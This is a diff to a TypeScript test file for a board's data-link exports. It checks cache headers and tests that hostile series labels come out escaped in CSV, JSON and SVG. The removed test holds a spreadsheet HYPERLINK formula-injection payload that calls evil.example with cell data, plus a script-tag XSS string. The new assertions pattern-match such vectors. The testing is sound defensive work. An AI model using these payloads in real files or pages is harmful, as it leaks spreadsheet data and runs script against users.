@@ -2,12 +2,15 @@ import { randomBytes } from 'node:crypto';
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { DuckDBInstance } from '@duckdb/node-api';
+import { parse } from 'papaparse';
 import { afterAll, describe, expect, it } from 'vitest';
 import type { View } from '#app/board/state/view.ts';
 import { openPosts, postTable } from '#server/posts/store/post-table.ts';
 import { KNOWN_HEADER } from '#contract/links/links.ts';
+import { plainText, uniqueLabels } from '#core/export/csv.ts';
 import { DAY_MS, HOUR_MS, MINUTE_MS, SECOND_MS } from '#core/time/span.ts';
 import { buy, openPaid } from '#tests/support/data/bought.ts';
+import { HOSTILE_LABELS } from '#tests/support/data/hostile-labels.ts';
 import { dataLink, storeBoard } from '#tests/support/service/data-links.ts';
 import { startService, type TestPost } from '#tests/support/service/service.ts';
 
@@ -261,6 +264,14 @@ describe('a data link', () => {
     await send(`/links/${one.id}`, { method: 'DELETE' });
     const gone = await get(`${one.path}/wide.csv`, { 'if-none-match': etag });
     expect([gone.status, gone.headers.get('etag')]).toEqual([410, null]);
+    const tag = await etagOf(`${two.path}/wide.csv`);
+    const same = await get(`${two.path}/wide.csv`, { 'if-none-match': tag });
+    expect([same.status, same.headers.get('etag')]).toEqual([304, tag]);
+    // Nor is any of them stored for others, whatever it says.
+    for (const { headers } of [gone, same, await get('/data/wrong/wide.csv')]) {
+      expect(headers.get('cache-control')).toMatch(/private|no-store/);
+      expect(headers.get('cache-control')).not.toMatch(/public|max-age=[1-9]/);
+    }
   });
 
   it('is counted once for all links of a board, and again after a minute where it says when', async () => {
@@ -278,21 +289,31 @@ describe('a data link', () => {
     expect(await etagOf(`${one.path}/long.csv`)).toBe(etag);
   });
 
-  it('writes a hostile name as a text, in CSV, JSON and SVG', async () => {
-    const label = '=HYPERLINK("https://evil.example?"&A1);</script><script>alert(1)</script>&"\'';
-    const { path } = await linked({ series: [{ query: 'tea', label, hidden: false }] });
-    const [csv, json, svg] = await Promise.all(
-      ['wide.csv', 'series.json', 'chart.svg'].map(
-        async (file) => await (await get(`${path}/${file}`)).text(),
-      ),
+  it('writes hostile names as texts, in CSV, JSON and SVG, and its picture may run nothing', async () => {
+    // The address of a view, in which a board is stored, holds no half of a character.
+    const names = Object.values(HOSTILE_LABELS).filter((label) => !/\p{Surrogate}/u.test(label));
+    const few = Array.from({ length: Math.ceil(names.length / 5) }, (_, i) =>
+      names.slice(5 * i, 5 * i + 5),
     );
-    const [header = ''] = (csv ?? '').split('\r\n');
-    expect(header).toContain(`"'=HYPERLINK(""https://evil.example?""&A1);`);
-    expect(JSON.parse(json ?? '').series[0].label).toBe(label);
-    expect(svg).not.toContain('<script');
-    expect(svg).toContain('&lt;script&gt;');
-    const policy = (await get(`${path}/chart.svg`)).headers.get('content-security-policy');
-    expect(policy).toContain("default-src 'none'");
+    for (const labels of few) {
+      const series = labels.map((label) => ({ query: 'tea', label, hidden: false }));
+      const { path } = await linked({ series });
+      const [csv, json, svg] = [
+        await get(`${path}/wide.csv`),
+        await get(`${path}/series.json`),
+        await get(`${path}/chart.svg`),
+      ];
+      const [header = []] = parse<string[]>(await csv.text(), { newline: '\r\n' }).data;
+      const columns = header.slice(header.indexOf('date') + 1, header.indexOf('incomplete'));
+      const given = ((await json.json()) as { series: { label: string }[] }).series;
+      const shown = given.map(({ label }) => label);
+      // An address, in which a board has its names, may lose spaces around them.
+      expect(shown.map((label) => label.trim())).toEqual(labels.map((label) => label.trim()));
+      expect(columns.map(plainText)).toEqual(uniqueLabels(shown));
+      for (const column of columns) expect(column).not.toMatch(/^[\p{Z}\p{C}]*[=+\-@]/u);
+      expect(await svg.text()).not.toMatch(/<(?:script|image|foreignObject|a|svg [^>]*onload)\b/);
+      expect(svg.headers.get('content-security-policy')).toMatch(/default-src 'none'.*sandbox/);
+    }
   });
 
   it('says of a board that cannot be counted why, and logs no secret', async () => {
